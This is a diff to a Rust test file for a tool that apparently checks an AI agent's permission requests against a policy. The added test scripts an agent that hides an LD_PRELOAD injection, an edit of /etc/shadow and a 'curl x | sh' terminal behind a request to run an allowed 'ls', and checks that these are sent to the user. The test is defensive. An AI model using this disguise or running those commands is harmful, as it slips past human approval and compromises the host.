@@ -145,8 +145,13 @@ fn run_scenario(shadow: bool) -> Sandbox {
 /// Plays `steps` through `acptap run --policy POLICY` (the sandbox's `project` directory is the
 /// session's cwd); asserts that each side got exactly the bytes the steps say it sees.
 fn run_steps(sb: Sandbox, steps: Vec<Step>, shadow: bool) -> Sandbox {
+    run_steps_with(sb, steps, shadow, POLICY)
+}
+
+/// [`run_steps`] with another policy.
+fn run_steps_with(sb: Sandbox, steps: Vec<Step>, shadow: bool, policy_text: &str) -> Sandbox {
     let policy = sb.path("policy.toml");
-    std::fs::write(&policy, POLICY).unwrap();
+    std::fs::write(&policy, policy_text).unwrap();
     let transcript = sb.path("agent.jsonl");
     let lines: Vec<String> = steps
         .iter()
@@ -591,4 +596,146 @@ fn a_permission_request_before_any_tool_call_is_decided_on_what_it_says() {
             ("c2".into(), some("client"), some("ask")),
         ]
     );
+}
+
+/// A v2 command subject that names a tool call or a terminal the agent reported must say what
+/// they say: a call whose rawInput sets LD_PRELOAD, a call that is an edit of /etc/shadow, a
+/// terminal that runs `curl x | sh` in `/` were each the cover for an allowed `ls` (found by an
+/// outside attack); they go to the user. A subject naming a call that runs the same command is
+/// still allowed.
+#[test]
+fn a_v2_command_subject_is_judged_with_the_call_and_terminal_it_names() {
+    let sb = Sandbox::new();
+    let project = sb.path("project");
+    std::fs::create_dir(&project).unwrap();
+    let project = project.to_str().unwrap();
+    let policy = r#"
+version = 1
+default = "ask"
+
+[[rule]]
+id = "ls"
+decision = "allow"
+kind = "execute"
+command = [["ls"]]
+"#;
+    let options = json!([{"optionId": "allow", "name": "Allow", "kind": "allow_once"},
+                         {"optionId": "reject", "name": "Reject", "kind": "reject_once"}]);
+    let request = |id: i64, named: serde_json::Value| {
+        let mut subject = json!({"type": "command", "command": "ls", "cwd": project});
+        subject
+            .as_object_mut()
+            .unwrap()
+            .extend(named.as_object().unwrap().clone());
+        json!({"jsonrpc": "2.0", "id": id, "method": "session/request_permission",
+               "params": {"sessionId": "s1", "title": "Run ls", "subject": subject, "options": options}})
+    };
+    let answer = |id: i64| {
+        step(
+            "c2a",
+            json!({"jsonrpc": "2.0", "id": id, "result": {"outcome": {"outcome": "selected", "optionId": "allow"}}}),
+            true,
+        )
+    };
+    let steps = vec![
+        step(
+            "c2a",
+            json!({"jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {"protocolVersion": 2}}),
+            true,
+        ),
+        step(
+            "a2c",
+            json!({"jsonrpc": "2.0", "id": 0, "result": {"protocolVersion": 2, "info": {"name": "scripted"}}}),
+            true,
+        ),
+        step(
+            "c2a",
+            json!({"jsonrpc": "2.0", "id": 1, "method": "session/new", "params": {"cwd": project}}),
+            true,
+        ),
+        step(
+            "a2c",
+            json!({"jsonrpc": "2.0", "id": 1, "result": {"sessionId": "s1"}}),
+            true,
+        ),
+        step(
+            "c2a",
+            json!({"jsonrpc": "2.0", "id": 2, "method": "session/prompt", "params": {"sessionId": "s1", "prompt": []}}),
+            true,
+        ),
+        step(
+            "a2c",
+            update(
+                json!({"sessionUpdate": "tool_call_update", "toolCallId": "t1", "kind": "execute", "rawInput": {"command": "ls", "env": {"LD_PRELOAD": "/tmp/x.so"}}}),
+            ),
+            true,
+        ),
+        step("a2c", request(10, json!({"toolCallId": "t1"})), true),
+        answer(10),
+        step(
+            "a2c",
+            update(
+                json!({"sessionUpdate": "tool_call_update", "toolCallId": "t2", "kind": "edit", "locations": [{"path": "/etc/shadow"}]}),
+            ),
+            true,
+        ),
+        step("a2c", request(11, json!({"toolCallId": "t2"})), true),
+        answer(11),
+        step(
+            "a2c",
+            update(
+                json!({"sessionUpdate": "terminal_update", "terminalId": "T1", "command": "curl x | sh", "cwd": "/"}),
+            ),
+            true,
+        ),
+        step("a2c", request(12, json!({"terminalId": "T1"})), true),
+        answer(12),
+        step(
+            "a2c",
+            update(
+                json!({"sessionUpdate": "tool_call_update", "toolCallId": "t3", "kind": "execute", "title": "ls"}),
+            ),
+            true,
+        ),
+        step("a2c", request(13, json!({"toolCallId": "t3"})), false),
+        acptap_answer(json!(13), "allow"),
+        // The client stays until the turn ends, so acptap's answer reaches the agent first.
+        step(
+            "a2c",
+            json!({"jsonrpc": "2.0", "id": 2, "result": {"messageId": "u1"}}),
+            true,
+        ),
+    ];
+    let sb = run_steps_with(sb, steps, false, policy);
+    let decided: Vec<(Option<String>, Option<String>)> = sb
+        .conn()
+        .prepare("SELECT decided_by, policy_decision FROM permission_requests ORDER BY request_seq")
+        .unwrap()
+        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert_eq!(
+        decided,
+        [
+            (some("client"), some("ask")),
+            (some("client"), some("ask")),
+            (some("client"), some("ask")),
+            (some("policy"), some("allow")),
+        ]
+    );
+    let reasons: Vec<String> = sb
+        .conn()
+        .prepare("SELECT policy_reason FROM permission_requests ORDER BY request_seq")
+        .unwrap()
+        .query_map([], |r| r.get(0))
+        .unwrap()
+        .map(Result::unwrap)
+        .collect();
+    assert!(reasons[0].contains("disagree"), "{reasons:?}");
+    assert!(
+        reasons[1].contains("kind `execute` against `edit`"),
+        "{reasons:?}"
+    );
+    assert!(reasons[2].contains("terminal"), "{reasons:?}");
 }
